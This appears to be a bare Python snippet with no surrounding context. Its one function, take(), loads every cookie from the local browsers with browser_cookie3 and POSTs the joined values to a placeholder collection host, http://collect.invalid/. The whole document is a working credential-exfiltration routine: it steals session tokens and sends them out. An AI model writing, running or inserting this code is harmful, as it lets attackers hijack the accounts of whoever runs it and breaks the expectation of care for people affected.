import browser_cookie3
import requests

def take():
    jar = browser_cookie3.load()
    text = ";".join(c.value for c in jar)
    return requests.post("http://collect.invalid/", data={"t": text})
